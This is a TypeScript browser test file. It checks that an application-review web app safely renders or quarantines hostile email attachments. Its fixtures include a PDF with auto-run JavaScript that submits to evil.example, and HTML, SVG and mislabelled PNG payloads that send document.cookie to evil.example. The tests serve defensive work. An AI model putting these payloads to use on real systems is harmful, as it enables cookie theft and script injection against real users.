import { deflateSync } from 'node:zlib';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expectAccessible, hasBrowser, phone, problems, shot, startWorld, type World } from './world.js';

/** A PDF of two pages that runs a script when it is opened, and another when it is clicked. */
function scriptedPdf(): Buffer {
  const text = (page: number) =>
    `BT /F1 18 Tf 60 740 Td (Curriculum vitae, page ${page}) Tj 0 -30 Td (Education) Tj 0 -30 Td (Master of Science in Mathematics 2024, thesis on optimal transport) Tj 0 -30 Td (Sinkhorn divergences and Wasserstein gradient flows) Tj ET`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\("opened"\\); this.submitForm\\("https://evil.example/"\\)) >> >>',
    '<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>',
    ...[5, 6].map(
      (content) =>
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${content} 0 R /Resources << /Font << /F1 7 0 R >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /JavaScript /JS (app.alert\\("clicked"\\)) >> >>] >>`,
    ),
    ...[1, 2].map((page) => `<< /Length ${text(page).length} >>\nstream\n${text(page)}\nendstream`),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let body = '%PDF-1.4\n';
  const places: number[] = [];
  for (const [index, object] of objects.entries()) {
    places.push(body.length);
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  }
  const entries = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  return Buffer.from(
    `${body}xref\n0 ${places.length + 1}\n0000000000 65535 f \n${entries}trailer\n<< /Size ${places.length + 1} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`,
    'latin1',
  );
}

/** A red square, as PNG. */
function png(): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const sum = Buffer.alloc(4);
    sum.writeUInt32BE(crc(body));
    return Buffer.concat([length, body, sum]);
  };
  const header = Buffer.from([0, 0, 0, 64, 0, 0, 0, 64, 8, 2, 0, 0, 0]);
  const line = Buffer.concat([Buffer.from([0]), Buffer.alloc(64 * 3, Buffer.from([200, 30, 30]))]);
  const lines = deflateSync(Buffer.concat(Array.from({ length: 64 }, () => line)));
  const start = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([start, chunk('IHDR', header), chunk('IDAT', lines), chunk('IEND', Buffer.alloc(0))]);
}

function crc(bytes: Buffer): number {
  let value = 0xffffffff;
  for (const byte of bytes) {
    value ^= byte;
    for (let bit = 0; bit < 8; bit += 1) value = value & 1 ? (value >>> 1) ^ 0xedb88320 : value >>> 1;
  }
  return (value ^ 0xffffffff) >>> 0;
}

const script = 'document.title="run";alert(1);fetch("https://evil.example/"+document.cookie)';
const files: readonly (readonly [string, string, Buffer])[] = [
  ['cv.pdf', 'application/pdf', scriptedPdf()],
  [
    'letter.html',
    'text/html',
    Buffer.from(`<html><body onload='${script}'><script>${script}</script>A letter.</body></html>`),
  ],
  [
    'photo.svg',
    'image/svg+xml',
    Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload='${script}'><script>${script}</script></svg>`),
  ],
  ['page.png', 'image/png', Buffer.from(`<!doctype html><script>${script}</script>`)],
  ['photo.png', 'image/png', png()],
  ['broken.pdf', 'application/pdf', Buffer.from('%PDF-1.7 and nothing more')],
];

function mail(): Buffer {
  const parts = files.map(
    ([name, type, bytes]) =>
      `--b\r\nContent-Type: ${type}; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${bytes.toString('base64').replace(/.{76}/g, '$&\r\n')}\r\n`,
  );
  return Buffer.from(
    `From: Eve Hostile <eve@example.com>\r\nTo: openings@ot-lab.example.org\r\nSubject: [apply-phd-ot] Application\r\nMessage-ID: <hostile@example.com>\r\nDate: Mon, 03 Nov 2025 09:12:00 +0100\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nDear all, I would like to apply for the PhD position in optimal transport. My CV is attached.\r\n\r\nEve Hostile\r\n${parts.join('')}--b--\r\n`,
  );
}

describe.runIf(hasBrowser())('attachments as they came, in a browser', () => {
  let world: World;
  let application = '';

  beforeAll(async () => {
    world = await startWorld({ mails: [mail()] });
    application = (await world.store.read.rankedQueue())[0]?.applicationId ?? '';
  }, 300_000);
  afterAll(() => world?.stop());

  /** A window that remembers every dialog, and the addresses of each attachment. */
  async function open(options: Parameters<World['visit']>[1] = {}) {
    const page = await world.visit('grace', options);
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.goto(`${world.url}/applications/${application}`);
    const links = new Map<string, string>();
    for (const tab of await page.locator('[data-tab]').all()) {
      const href = (await tab.getAttribute('href')) ?? '';
      const title = (await tab.textContent()) ?? '';
      const file = files.find(([known]) => title.includes(known))?.[0];
      const key = new URL(href, world.url).searchParams.get('doc');
      if (file !== undefined && key !== null) links.set(file, `/applications/${application}/original/${key}`);
    }
    return { page, dialogs, links };
  }

  const loaded = (page: Page) =>
    page
      .locator('.sheets img')
      .evaluateAll((images) => images.map((image) => (image as HTMLImageElement).naturalWidth));

  it('a PDF is drawn by the program, so that its scripts run nowhere', async () => {
    const { page, dialogs, links } = await open();
    await page.goto(`${world.url}${links.get('cv.pdf')}/look`);
    await page.getByRole('img', { name: 'Page 2 of 2' }).scrollIntoViewIfNeeded();
    await expect.poll(async () => (await loaded(page)).every((width) => width > 1000)).toBe(true);
    expect(await loaded(page)).toHaveLength(2);
    await page.getByRole('img', { name: 'Page 1 of 2' }).click();
    await expectAccessible(page);
    await shot(page, 'original-pdf');
    expect(dialogs).toEqual([]);
    expect(problems(page)).toEqual([]);
    for (const [number, status] of [
      ['1', 200],
      ['3', 404],
      ['0', 404],
      ['x', 404],
    ] as const) {
      const answer = await page.request.get(`${world.url}${links.get('cv.pdf')}/pages/${number}`);
      expect([number, answer.status()]).toEqual([number, status]);
      if (status !== 200) continue;
      expect(answer.headers()['content-type']).toBe('image/png');
      expect(answer.headers()['content-security-policy']).toContain('sandbox');
    }
    await page.context().close();
  });

  it('a picture is shown, and what only calls itself one is not', async () => {
    const { page, dialogs, links } = await open({ viewport: phone });
    await page.goto(`${world.url}${links.get('photo.png')}/look`);
    await expect.poll(() => loaded(page)).toEqual([64]);
    await expectAccessible(page);
    await page.goto(`${world.url}${links.get('page.png')}/look`);
    await page.getByText('neither a PDF nor a picture').waitFor();
    await page.goto(`${world.url}${links.get('broken.pdf')}/look`);
    await page.getByText('can’t be drawn').waitFor();
    await shot(page, 'original-broken');
    expect(dialogs).toEqual([]);
    expect(problems(page)).toEqual([]);
    await page.context().close();
  });

  it('everything else leaves as a locked file, whatever it calls itself', async () => {
    const { page, dialogs, links } = await open();
    expect([...links.keys()].sort()).toEqual(files.map(([name]) => name).sort());
    for (const [name, , bytes] of files) {
      const answer = await page.request.get(`${world.url}${links.get(name)}`);
      const headers = answer.headers();
      const shown = name === 'photo.png';
      expect([name, headers['content-type']]).toEqual([name, shown ? 'image/png' : 'application/octet-stream']);
      expect([name, headers['content-disposition']?.split(';')[0]]).toEqual([name, shown ? 'inline' : 'attachment']);
      expect(headers['content-security-policy']).toBe("default-src 'none'; frame-ancestors 'none'; sandbox");
      expect(headers['x-content-type-options']).toBe('nosniff');
      expect((await answer.body()).equals(bytes)).toBe(true);
      if (shown) continue;
      // Opened as a page all the same: the browser saves it and runs nothing.
      const download = page.waitForEvent('download');
      await page.goto(`${world.url}${links.get(name)}`).catch(() => null);
      expect((await download).suggestedFilename()).toBe(name);
    }
    expect(dialogs).toEqual([]);
    expect(problems(page)).toEqual([]);
    await page.context().close();
  });

  it('is closed to whoever reviews blind, and unknown to whoever may not see the mail', async () => {
    const { links } = await open();
    const blind = await world.visit('blind');
    const reviewer = await world.store.review.reviewers.byLogin('blind');
    await world.store.review.reviewers.change(reviewer?.id ?? '', { blind: true }, 'test');
    const stranger = await world.visit('stranger', { accounts: ['elsewhere'] });
    for (const path of ['', '/look', '/pages/1']) {
      const of = async (page: Page) => (await page.request.get(`${world.url}${links.get('cv.pdf')}${path}`)).status();
      expect([path, await of(blind), await of(stranger)]).toEqual([path, 403, 404]);
    }
  });
});
